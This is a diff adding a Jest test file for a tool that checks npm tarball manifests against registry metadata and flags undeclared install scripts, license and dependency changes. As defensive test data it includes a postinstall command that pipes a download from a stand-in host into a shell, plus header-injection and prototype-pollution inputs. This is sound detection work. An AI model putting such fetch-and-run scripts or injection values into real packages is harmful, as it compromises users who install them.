@@ -1,0 +1,148 @@
+import { RULE_FIELDS } from '../../../src/core/inspection';
+import { effectiveInstallScripts, inspectTarball, sanitizeManifest } from '../../../src/core/manifest-compare';
+import { readTarballManifest } from '../../../src/core/tarball-manifest';
+import { buildTarball, integrityOf } from '../../support/tarball';
+
+const NOW = new Date('2026-01-02T03:04:05.000Z');
+const INTEGRITY = 'sha512-abc';
+
+const base = {
+  name: 'pkg',
+  version: '1.0.0',
+  license: 'MIT',
+  scripts: { test: 'jest' },
+  dependencies: { a: '^1.0.0', opt: '^2.0.0' },
+  optionalDependencies: { opt: '^2.0.0' },
+  peerDependencies: { react: '>=18' },
+};
+
+function inspect(declared: Record<string, unknown>, actual: Record<string, unknown>, hasBindingGyp = false) {
+  return inspectTarball(declared, { manifest: actual, hasBindingGyp }, INTEGRITY, NOW);
+}
+
+describe('inspectTarball', () => {
+  it('finds nothing when the tarball says what the packument says (as npm publishes: optional deps also under dependencies)', () => {
+    const tarball = { ...base, dependencies: { a: '^1.0.0' } };
+    const result = inspect({ ...base, _id: 'pkg@1.0.0', dist: { tarball: 'x' } }, tarball);
+    expect(result).toEqual({
+      name: 'pkg',
+      version: '1.0.0',
+      manifest: tarball,
+      hasBindingGyp: false,
+      mismatches: [],
+      integrity: INTEGRITY,
+      inspectedAt: NOW,
+    });
+  });
+
+  it('reports another name and version (normalised as npm publishes them)', () => {
+    expect(inspect(base, { ...base, version: 'v1.0.0', name: ' pkg ' }).mismatches).toEqual([]);
+    expect(inspect(base, { ...base, version: '1.0.0+build.5' }).mismatches).toEqual([]);
+    const result = inspect(base, { ...base, name: 'other', version: '2.0.0' });
+    expect(result.mismatches).toEqual([
+      { field: 'name', declared: 'pkg', actual: 'other' },
+      { field: 'version', declared: '1.0.0', actual: '2.0.0' },
+    ]);
+    expect(result.name).toBe('pkg');
+    expect(inspect(base, { ...base, version: undefined }).mismatches).toEqual([{ field: 'version', declared: '1.0.0', actual: null }]);
+    expect(inspect(base, { ...base, name: ['pkg'] }).mismatches).toEqual([{ field: 'name', declared: 'pkg', actual: '["pkg"]' }]);
+  });
+
+  it('reports install scripts the packument does not declare', () => {
+    const result = inspect(base, { ...base, scripts: { test: 'jest', postinstall: 'curl http://x.invalid | sh' } });
+    expect(result.mismatches).toEqual([{ field: 'installScripts', declared: {}, actual: { postinstall: 'curl http://x.invalid | sh' } }]);
+    expect(RULE_FIELDS).toContain(result.mismatches[0].field);
+    // Changed and removed scripts count too; other scripts and empty ones do not.
+    expect(inspect({ ...base, scripts: { install: 'a' } }, { ...base, scripts: { install: 'b' } }).mismatches[0]).toMatchObject({ field: 'installScripts' });
+    expect(inspect({ ...base, scripts: { install: 'a' } }, base).mismatches[0]).toEqual({ field: 'installScripts', declared: { install: 'a' }, actual: {} });
+    expect(inspect({ ...base, scripts: { prepare: 'x', postinstall: '' } }, { ...base, scripts: { build: 'y' } }).mismatches).toEqual([]);
+  });
+
+  it('counts a binding.gyp without install or preinstall as `node-gyp rebuild`', () => {
+    const declaredGyp = { ...base, scripts: { install: 'node-gyp rebuild' }, gypfile: true };
+    expect(inspect(declaredGyp, base, true).mismatches).toEqual([]);
+    expect(inspect(base, base, true).mismatches).toEqual([{ field: 'installScripts', declared: {}, actual: { install: 'node-gyp rebuild' } }]);
+    // Its own install script wins over node-gyp; gypfile: false turns node-gyp off.
+    expect(inspect({ ...base, scripts: { install: 'make' } }, { ...base, scripts: { install: 'make' } }, true).mismatches).toEqual([]);
+    expect(inspect(base, { ...base, gypfile: false }, true).mismatches).toEqual([]);
+    expect(effectiveInstallScripts({ scripts: { preinstall: 'p' } }, true)).toEqual({ preinstall: 'p' });
+    expect(effectiveInstallScripts({ gypfile: true }, false)).toEqual({ install: 'node-gyp rebuild' });
+  });
+
+  it('compares with hasInstallScript when the declared manifest is abbreviated', () => {
+    const abbreviated = { name: 'pkg', version: '1.0.0', hasInstallScript: true };
+    expect(inspect(abbreviated, { name: 'pkg', version: '1.0.0', scripts: { postinstall: 'x' } }).mismatches).toEqual([]);
+    expect(inspect({ ...abbreviated, hasInstallScript: false }, { name: 'pkg', version: '1.0.0' }, true).mismatches).toEqual([
+      { field: 'installScripts', declared: { hasInstallScript: false }, actual: { install: 'node-gyp rebuild' } },
+    ]);
+  });
+
+  it('reports another license (read as the license policy reads it)', () => {
+    expect(inspect(base, { ...base, license: { type: 'MIT', url: 'http://x.invalid' } }).mismatches).toEqual([]);
+    expect(inspect(base, { ...base, license: 'GPL-3.0-only' }).mismatches).toEqual([{ field: 'license', declared: 'MIT', actual: 'GPL-3.0-only' }]);
+    expect(inspect(base, { ...base, license: undefined }).mismatches).toEqual([{ field: 'license', declared: 'MIT', actual: 'no license field' }]);
+  });
+
+  it('reports added, removed and changed dependencies of each kind, briefly', () => {
+    const tarball = {
+      ...base,
+      dependencies: { a: '^1.1.0', evil: '1.0.0' },
+      optionalDependencies: {},
+      peerDependencies: { react: '>=18', vue: '*' },
+    };
+    expect(inspect(base, tarball).mismatches).toEqual([
+      {
+        field: 'dependencies',
+        declared: { 'dependencies.a': '^1.0.0', 'dependencies.evil': null, 'optionalDependencies.opt': '^2.0.0', 'peerDependencies.vue': null },
+        actual: { 'dependencies.a': '^1.1.0', 'dependencies.evil': '1.0.0', 'optionalDependencies.opt': null, 'peerDependencies.vue': '*' },
+      },
+    ]);
+    const many = Object.fromEntries(Array.from({ length: 25 }, (_, i) => [`dep-${String(i).padStart(2, '0')}`, '1.0.0']));
+    const [mismatch] = inspect({ ...base, optionalDependencies: undefined, dependencies: {}, peerDependencies: undefined }, { name: 'pkg', version: '1.0.0', license: 'MIT', dependencies: many }).mismatches;
+    expect(Object.keys(mismatch.actual as object)).toHaveLength(11);
+    expect((mismatch.actual as Record<string, unknown>)['…']).toBe('15 more differences');
+  });
+
+  it('keeps hostile text out of display values and the stored manifest', () => {
+    const script = `node x.js\u0000\r\nSet-Cookie: a=b ${'y'.repeat(500)}`;
+    const tarball = JSON.parse(
+      JSON.stringify({ ...base, scripts: { postinstall: script }, description: 'a\u0000b', nested: { 'k\u0000ey': ['\u0000'] } }),
+    ) as Record<string, unknown>;
+    Object.defineProperty(tarball, '__proto__', { value: { polluted: true }, enumerable: true });
+    const result = inspect(base, tarball);
+    const shown = (result.mismatches[0].actual as Record<string, string>).postinstall;
+    expect(shown).toMatch(/^node x\.js Set-Cookie: a=b y+…$/);
+    expect(shown.length).toBe(120);
+    expect(JSON.stringify(result.manifest)).not.toContain('\\u0000');
+    expect(result.manifest.description).toBe('ab');
+    expect(result.manifest.nested).toEqual({ key: [''] });
+    expect(Object.getPrototypeOf(result.manifest)).toBe(Object.prototype);
+    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
+    expect(Object.keys(result.manifest)).toContain('__proto__');
+  });
+
+  it('cuts the stored manifest at 64 levels of nesting', () => {
+    let deep: unknown = 'bottom';
+    for (let i = 0; i < 100; i++) deep = { d: deep };
+    const clean = sanitizeManifest({ deep }) as Record<string, unknown>;
+    let depth = 0;
+    let node: unknown = clean;
+    while (node && typeof node === 'object') {
+      node = (node as Record<string, unknown>).deep ?? (node as Record<string, unknown>).d;
+      depth++;
+    }
+    expect(depth).toBe(64);
+    expect(() => JSON.stringify(clean)).not.toThrow();
+  });
+
+  it('works on what readTarballManifest reads', () => {
+    const tgz = buildTarball({
+      'package.json': JSON.stringify({ name: 'pkg', version: '1.0.0', license: 'MIT' }),
+      'binding.gyp': '{}',
+    });
+    const result = inspectTarball({ name: 'pkg', version: '1.0.0', license: 'MIT' }, readTarballManifest(tgz), integrityOf(tgz), NOW);
+    expect(result.hasBindingGyp).toBe(true);
+    expect(result.integrity).toBe(integrityOf(tgz));
+    expect(result.mismatches).toEqual([{ field: 'installScripts', declared: {}, actual: { install: 'node-gyp rebuild' } }]);
+  });
+});
